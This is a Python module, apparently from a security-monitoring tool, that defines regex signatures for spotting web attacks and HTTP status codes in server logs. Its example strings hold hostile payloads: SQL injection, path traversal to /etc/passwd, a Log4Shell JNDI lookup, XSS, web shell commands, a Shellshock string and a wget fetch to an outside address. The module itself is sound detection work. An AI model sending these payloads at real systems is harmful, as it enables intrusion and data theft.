"""Signatures of attacks over HTTP, and of HTTP statuses."""

from __future__ import annotations

from soc.domain.classification import Classification as C
from soc.logs.signatures.model import Signature as S

ALERT, HTTP = C.SECURITY_ALERT, C.HTTP_STATUS

_NAMED = r"\b(?:http|status|code|status_?code)[\"']?[:= ]{1,3}[\"']?"

WEB: tuple[S, ...] = (
    S(
        "web.sql-injection", "SQL injection", r"(?:union(?:\s|\+|%20|/\*\*/){1,3}(?:all(?:\s|\+|%20)+)?select\b|(?:'|%27)(?:\s|\+|%20)*(?:or|and)(?:\s|\+|%20)+(?:'|%27)?\d{1,3}(?:'|%27)?(?:=|%3d)|\bor(?:\+|%20)1(?:=|%3d)1\b|information_schema|sleep(?:\(|%28)\d|waitfor(?:\s|\+|%20)delay|benchmark(?:\(|%28)\d|xp_cmdshell|\bsql injection\b|sqlmap|(?:;|%3b)(?:\s|\+|%20)*drop(?:\s|\+|%20)+table\b|load_file(?:\(|%28)|into(?:\s|\+|%20)+outfile\b)", ALERT, 8, 0.9,
        ("GET /p?id=1+UNION+SELECT+user,pass HTTP/1.1", "GET /p?id=1%27%20OR%201=1-- HTTP/1.1", "SQL injection attempt on /login"), ("SELECT name FROM users", "the union selected him"), "T1190",
    ),
    S(
        "web.traversal", "Path traversal", r"(?:\.\./\.\./|\.\.\\\.\.\\|\.\.%2f|%2e%2e(?:/|%2f|\\)|%252e%252e|\.\.%5c|\.\.%c0%af|/etc/passwd|/etc/shadow|/proc/self/environ|win\.ini\b|boot\.ini\b|php://(?:input|filter)|file:///etc)", ALERT, 8, 0.9,
        ("GET /../../../../etc/passwd HTTP/1.1", "GET /x?f=..%2f..%2fboot HTTP/1.1", "GET /?f=php://filter/x HTTP/1.1"), ("cd ../lib",), "T1190",
    ),
    S(
        "web.log4shell", "Log4Shell", r"\$(?:\{|%7b)(?:jndi|\$\{|lower:|upper:|env:|::-|%24)|%24%7bjndi|jndi:(?:ldap|rmi|dns|iiop)", ALERT, 9, 0.95,
        ('"GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://203.0.113.9/a}"', "x=$%7Bjndi:rmi"), ("the price is ${price}",), "T1190",
    ),
    S(
        "web.xss", "Cross-site scripting", r"(?:<script\b|%3cscript|javascript:(?:alert|eval|document)|(?:onerror|onload|onmouseover)(?:=|%3d)|document\.cookie|<svg/onload|alert(?:\(|%28)(?:1|document|'|%27))", ALERT, 7, 0.85,
        ("GET /s?q=<script>alert(1)</script> HTTP/1.1", "GET /s?q=%3Cscript%3E HTTP/1.1"), ("GET /script.js HTTP/1.1",), "T1189",
    ),
    S(
        "web.shell", "Web shell", r"(?:\b(?:c99|r57|wso|b374k|weevely|alfa|chopper|indoxploit)(?:shell)?\.(?:php|asp)|(?:web)?shell\.(?:php|aspx?|jsp)|cmd\.(?:php|aspx?|jsp)|web ?shell\b|\.(?:php|aspx?|jsp)\?(?:cmd|exec|command|c)=|eval-stdin\.php|(?:\?|&)cmd=(?:cat|id|whoami|ls|wget|curl|uname)\b)", ALERT, 9, 0.9,
        ("POST /uploads/c99.php HTTP/1.1", "GET /a.php?cmd=id HTTP/1.1", "web shell found in /var/www"), ("GET /seashell.html HTTP/1.1",), "T1505.003",
    ),
    S(
        "web.command-injection", "Command injection", r"(?:(?:;|%3b|\||%7c|`|%60|\$\(|%24%28)(?:\s|\+|%20)*(?:cat|wget|curl|id|uname|whoami|nc|bash|sh|ping|nslookup)(?:\+|%20|\$\{IFS\}|;|%3b|`)|\$\{IFS\}|\(\) ?\{ ?:; ?\}|/bin/(?:ba)?sh(?:\+|%20|%3b)|shellshock|/cgi-bin/.{0,60}?(?:%3b|;|%0a)(?:wget|curl|cd)|allow_url_include)", ALERT, 9, 0.9,
        ("GET /?x=;wget%20http://203.0.113.9/a HTTP/1.1", '"GET / HTTP/1.0" 200 5 "-" "() { :; }; /bin/bash -c id"'), ("GET /cat.html HTTP/1.1",), "T1190",
    ),
    S(
        "web.secret-file", "Search for secrets", r"(?:GET|HEAD|POST) /\S{0,80}?(?:\.env\b|\.git/|\.svn/|\.aws/|\.ssh/|\.htpasswd|\.htaccess|wp-config\.php|id_rsa|\.DS_Store|\.bak\b|/config\.json|web\.config|\.sql(?:\.gz)?\b|backup\.(?:zip|tar|sql))", ALERT, 6, 0.85,
        ("GET /.env HTTP/1.1", "GET /a/.git/config HTTP/1.1"), ("GET /environment HTTP/1.1",), "T1595.003",
    ),
    S(
        "web.probe", "Probe for weak software", r"(?:GET|HEAD|POST) /{1,2}\S{0,40}?(?:phpmyadmin|/pma/|wp-login\.php|xmlrpc\.php|wlwmanifest\.xml|/manager/html|/cgi-bin/|/HNAP1|/boaform|/actuator/|/solr/|/jenkins|/_ignition|/vendor/phpunit|/owa/auth|/GponForm|/setup\.cgi|/w00tw00t|w00tw00t|/sdk\b|/console/|/\.well-known/pki-validation/\S{0,20}?\.php|/adminer|/mysqladmin|administrator/index\.php)", ALERT, 5, 0.75,
        ("GET /phpmyadmin/index.php HTTP/1.1", "GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1"), ("GET /products HTTP/1.1",), "T1595.002",
    ),
    S(
        "web.scanner", "Web scanner", r"(?:nikto|acunetix|nessus|openvas|nuclei|wpscan|dirbuster|gobuster|feroxbuster|\bffuf\b|burp ?(?:suite|collaborator)|w3af|arachni|netsparker|qualys|havij|zgrab|morfeus|masscan|l9explore|hydra\b)", ALERT, 7, 0.85,
        ('"GET / HTTP/1.1" 404 9 "-" "Mozilla/5.00 (Nikto/2.1.6)"', "User-Agent: Nuclei - project"), ("monika to do",), "T1595.002",
    ),
    S(
        "web.waf", "Web application firewall alert", r"\b(?:modsecurity: (?:access denied|warning)|waf (?:blocked|alert|rule)|request blocked by|(?:limiting|delaying) requests?, excess|naxsi_fmt|mod_evasive|detected by libinjection)\b", ALERT, 6, 0.8,
        ("ModSecurity: Access denied with code 403", "limiting requests, excess: 5.1 by zone"), ("waffle",), "T1190",
    ),
    S(
        "web.bad-request", "Malformed request", r"\b(?:invalid (?:uri|method|url|host) in request|request (?:header|line|uri).{0,30}?(?:too long|too large|invalid|malformed)|uri too long|script '\S{1,200}' not found or unable to stat|script not found or unable to stat|malformed request|not found or unable to stat)\b", ALERT, 5, 0.6,
        ("Invalid URI in request GET /../../ HTTP/1.1", "script not found or unable to stat: /var/www/a.php"), ("invalid date",), "T1595",
    ),
    S(
        "http.5xx", "HTTP server error", r"HTTP/\d(?:\.\d)?\\?\" 5\d\d\b|" + _NAMED + r"5(?:0\d|1[01])\b", HTTP, 5, 0.95,
        ('"GET /a HTTP/1.1" 503 12', "status=500 path=/a", 'upstream answered HTTP 502'), ('"GET /a HTTP/1.1" 200 500', "took 500 ms"),
    ),
    S(
        "http.401", "HTTP access refused", r"HTTP/\d(?:\.\d)?\\?\" 40[13]\b|" + _NAMED + r"40[13]\b", HTTP, 3, 0.9,
        ('"GET /admin HTTP/1.1" 401 12', "status=403"), ('"GET /a HTTP/1.1" 200 401',),
    ),
    S(
        "http.4xx", "HTTP client error", r"HTTP/\d(?:\.\d)?\\?\" 4\d\d\b|" + _NAMED + r"4[0-4]\d\b", HTTP, 2, 0.95,
        ('"GET /a HTTP/1.1" 404 12', "status=404", 'status: 404'), ('"GET /a HTTP/1.1" 200 404',),
    ),
    S(
        "http.ok", "HTTP request served", r"HTTP/\d(?:\.\d)?\\?\" [123]\d\d\b|" + _NAMED + r"[23]0\d\b", HTTP, 1, 0.95,
        ('"GET /a HTTP/1.1" 200 12', "status=304", '"GET /v2 HTTP/1.1" status: 200 len: 4'), ('"GET /a HTTP/1.1" 404 200',),
    ),
)
